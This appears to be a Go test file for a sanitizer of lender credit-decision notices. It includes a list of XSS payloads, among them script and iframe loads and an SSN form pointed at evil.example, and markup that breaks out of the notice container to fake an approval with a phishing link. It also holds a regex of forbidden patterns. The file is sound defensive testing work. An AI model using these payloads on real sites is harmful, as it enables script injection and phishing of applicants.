package views

import (
	"regexp"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
)

// forbidden matches anything a sanitized notice must never contain.
var forbidden = regexp.MustCompile(`(?i)<script|<style|<iframe|<form|<svg|<math|<img|<object|<embed|\son[a-z]*\s*=|hx-|javascript:|(href|src)\s*=\s*"?\s*(data|vbscript):`)

var hostileNotices = []string{
	`<script>alert(1)</script><p>Notice</p>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)><circle/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="jav&#x09;ascript:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<div hx-get="/admin" hx-trigger="load">x</div>`,
	`<div data-hx-post="/x" data-hx-trigger="load">x</div>`,
	`<p onclick="alert(1)" onmouseover=alert(1)>x</p>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<form action="https://evil.example"><input name=ssn></form>`,
	`<style>body{display:none}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<object data="javascript:alert(1)"></object>`,
	`"><script>alert(1)</script>`,
	`<a href="https://ok.example/x" onclick="alert(1)">ok</a>`,
}

func TestSanitizeNoticeDropsEverythingHostile(t *testing.T) {
	for _, in := range hostileNotices {
		out := SanitizeNotice(in)
		if forbidden.MatchString(out) {
			t.Errorf("SanitizeNotice(%q) = %q", in, out)
		}
	}
}

func TestSanitizeNoticeKeepsOrdinaryContent(t *testing.T) {
	in := `<h2>Notice of action taken</h2><p>We are <strong>unable</strong> to offer credit.</p>` +
		`<ul><li>Income insufficient for amount of credit requested</li></ul>` +
		`<table><tr><th scope="col">Score</th></tr><tr><td>590</td></tr></table>` +
		`<p><a href="https://www.consumerfinance.gov/">CFPB</a></p>`
	out := SanitizeNotice(in)
	for _, want := range []string{"<h2>", "<strong>unable</strong>", "<li>Income insufficient", "<th scope=\"col\">", "<td>590</td>", `href="https://www.consumerfinance.gov/"`, `rel="nofollow noreferrer noopener"`} {
		if !strings.Contains(out, want) {
			t.Errorf("lost %q: %s", want, out)
		}
	}
	if strings.Contains(SanitizeNotice(`<a href="http://plain.example/">x</a>`), "href") {
		t.Error("kept a non-https link")
	}
}

func FuzzSanitizeNotice(f *testing.F) {
	for _, s := range append(hostileNotices, structureBreakers...) {
		f.Add(s)
	}
	f.Add(`<p>plain</p>`)
	f.Add(`text with javascript: and hx-get and onload=1 in it`)
	f.Fuzz(func(t *testing.T, in string) {
		out := SanitizeNotice(in)
		if forbidden.MatchString(out) {
			t.Fatalf("SanitizeNotice(%q) = %q", in, out)
		}
		if problem := leavesContainer(t, out); problem != "" {
			t.Fatalf("SanitizeNotice(%q) = %q: %s", in, out, problem)
		}
	})
}

// leavesContainer says how the sanitized notice out, rendered in its container
// on a page, changes the page around it ("" when it does not).
func leavesContainer(t *testing.T, out string) string {
	t.Helper()
	page := `<main id="page"><details><summary>Notice</summary><div id="notice">` + out +
		`</div></details><footer id="after">footer</footer></main>`
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	switch {
	case doc.Find("#page > details > #notice").Length() != 1:
		return "the notice's container moved"
	case doc.Find("#page > footer#after").Length() != 1:
		return "the footer after the notice was swallowed or moved"
	case doc.Find("#page").Children().Length() != 2:
		return "the notice added elements next to its container"
	}
	return ""
}

// structureBreakers are notices that try to close the notice's container and
// open markup of their own on the page: a heading and a link that look like the
// lender's, a table left open to swallow the footer.
var structureBreakers = []string{
	`</p></div></details></section></div><h2>Congratulations — approved</h2><p><a href="https://claim.example/now">claim</a></p><table><tr><td>`,
	`<table><tr><td>swallow the rest`,
	`</div></div></div></main><footer>Official footer</footer>`,
	`<ul><li>unclosed list`,
	`<blockquote><div><section><address>`,
	`<p>text</details><details open><summary>Approved!</summary>`,
	`</td></tr></tbody></table><h2>Approved</h2>`,
	`<table><p>fostered out of the table</p><tr><td>cell`,
	`<p><h2>heading inside a paragraph</h2>`,
	`<dl><dt>term<dd>definition`,
	`</body></html><h2>after the document</h2>`,
	`<!-- <div> --></div><h2>after a comment</h2>`,
}

// A notice is a fragment of the page: whatever it holds, it stays inside its
// container, and the page around it keeps its shape.
func TestSanitizeNoticeStaysInsideItsContainer(t *testing.T) {
	for _, in := range append(structureBreakers, hostileNotices...) {
		out := SanitizeNotice(in)
		if problem := leavesContainer(t, out); problem != "" {
			t.Errorf("%q: %s\n%s", in, problem, out)
		}
		page := `<main id="page"><details><summary>Notice</summary><div id="notice">` + out +
			`</div></details><footer id="after">footer</footer></main>`
		doc, err := goquery.NewDocumentFromReader(strings.NewReader(page))
		if err != nil {
			t.Fatal(err)
		}
		doc.Find("h2, a, table, p, ul").Each(func(_ int, s *goquery.Selection) {
			if s.Closest("#notice").Length() == 0 && s.Closest("summary").Length() == 0 {
				t.Errorf("%q: <%s> %q is outside the notice\n%s", in, goquery.NodeName(s), s.Text(), out)
			}
		})
		if again := SanitizeNotice(out); again != out {
			t.Errorf("%q: sanitizing twice changes it:\n%s\n%s", in, out, again)
		}
	}
}
